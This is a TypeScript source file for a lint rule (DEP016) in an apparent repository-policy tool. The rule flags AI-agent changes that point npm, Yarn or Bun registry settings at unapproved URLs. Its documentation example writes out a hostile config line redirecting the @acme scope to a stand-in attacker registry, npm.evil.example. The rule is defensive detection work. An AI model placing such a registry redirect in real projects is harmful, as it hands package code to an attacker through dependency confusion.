import { agentSignal } from '../../agents/change-author.js';
import { touchedPaths } from '../../change-set.js';
import type { Finding } from '../../finding.js';
import { underRegistries } from '../../requirements/npm/npmrc.js';
import { REGISTRY_FILES } from '../../requirements/npm/registry-files.js';
import { dirnameSlash } from '../../repo-paths.js';
import type { CheckContext, Rule, RuleExample } from '../../rule.js';
import { LineIndex } from '../../text-position.js';
import type { PairFacts } from './facts/pair-facts.js';
import type { PairRun } from './facts/pair-run.js';

/** The docs examples: a branch points the project's @acme scope at another registry. */
function example(verdict: RuleExample['verdict'], branch: string): RuleExample {
  return {
    verdict,
    file: '.npmrc',
    text: 'save-exact=true\n@acme:registry=https://npm.evil.example/\n',
    change: {
      branch,
      labels: [],
      files: ['.npmrc'],
      base: { '.npmrc': 'save-exact=true\n' },
    },
    beside: {
      'package.json': '{\n  "name": "app",\n  "dependencies": {\n    "@acme/ui": "^1.0.0"\n  }\n}\n',
      'package-lock.json':
        '{\n  "name": "app",\n  "lockfileVersion": 3,\n  "packages": {\n    "": { "name": "app", "dependencies": { "@acme/ui": "^1.0.0" } },\n    "node_modules/@acme/ui": { "version": "1.0.0", "resolved": "https://registry.npmjs.org/@acme/ui/-/ui-1.0.0.tgz" }\n  }\n}\n',
      'slipway.yaml':
        'version: 1\nagents:\n  limits:\n    new_dependencies: 10\ndependencies:\n  requirements: package.json\n  lock: package-lock.json\n',
    },
  };
}

export const npmrcRegistryOnAgentChange: Rule<PairRun> = {
  id: 'DEP016',
  name: 'npmrc-registry-on-agent-change',
  family: 'DEP',
  facts: 'dependency-pair',
  defaultSeverity: 'error',
  title: 'agent change points .npmrc at a registry outside the allowed ones',
  docs: {
    what:
      "An agent's change (see `agents`) adds or changes a `registry=` or `@scope:registry=` line in the " +
      '.npmrc beside an npm, pnpm, Yarn or Bun pair\'s lock, a `registry`, `"@scope:registry"` or ' +
      '`--registry` line in its .yarnrc (Yarn 1), `npmRegistryServer` (also under `npmScopes`) in ' +
      'its .yarnrc.yml (Yarn 2+ reads no .npmrc), or `[install] registry` or an `[install.scopes]` entry in ' +
      "its bunfig.toml (Bun), to a URL not under one of the pair's `registries`. " +
      'Each file is judged beside every npm-family lock, whichever tool wrote the lock: `npx` and `npm` ' +
      "read .npmrc in a Yarn or Bun project too, and a redirect in a file today's tool skips is waiting " +
      'for the day another tool (or a tool switch in the same change) reads it. ' +
      'A human change is not flagged, nor an .npmrc line that is not a registry (`save-exact=true`).',
    why:
      'The next `npm install` fetches every package, or every package of that scope, from that URL: ' +
      'whoever serves it chooses the code (dependency confusion), and the lock, regenerated, follows it.',
    fix: "Drop the line, or, if the registry is the team's own, add its URL to the pair's `registries`.",
    suppress: 'Every finding: `rules: { DEP016: off }` (or another severity) in the policy.',
    examples: [example('flagged', 'copilot/acme-registry'), example('fine', 'alice/acme-registry')],
  },
  check: ({ ctx, pair }) => checkNpmrc(ctx, pair),
};

export function checkNpmrc(ctx: CheckContext, facts: PairFacts): Finding[] {
  const change = ctx.change;
  if (!change || !facts.npm || !agentSignal(ctx.policy, change)) return [];
  const touched = touchedPaths(change);
  const allowed = facts.pair.registries;
  const out: Finding[] = [];
  for (const [name, read] of REGISTRY_FILES) {
    const path = `${dirnameSlash(facts.pair.lock)}${name}`;
    if (!touched.includes(path)) continue;
    const text = ctx.repo.readFile(path);
    if (text === undefined) continue;
    const before = new Set(read(change.readBase?.(path) ?? '').map((r) => `${r.key}=${r.url}`));
    const lines = new LineIndex(text);
    for (const r of read(text)) {
      if (underRegistries(r.url, allowed) || before.has(`${r.key}=${r.url}`)) continue;
      const scope = r.key.startsWith('@') ? r.key.slice(0, r.key.indexOf(':')) : undefined;
      out.push({
        rule: npmrcRegistryOnAgentChange.id,
        severity: npmrcRegistryOnAgentChange.defaultSeverity,
        message: `this agent change makes ${path} fetch ${scope ? `every ${scope} package` : 'every package'} from ${r.url}, not ${allowed.length === 1 ? 'the allowed registry' : 'an allowed registry'} (${allowed.join(', ')}); drop the line, or add the registry to the pair's \`registries\` if it is the team's own.`,
        file: path,
        range: lines.range(r.start, r.end),
      });
    }
  }
  return out;
}
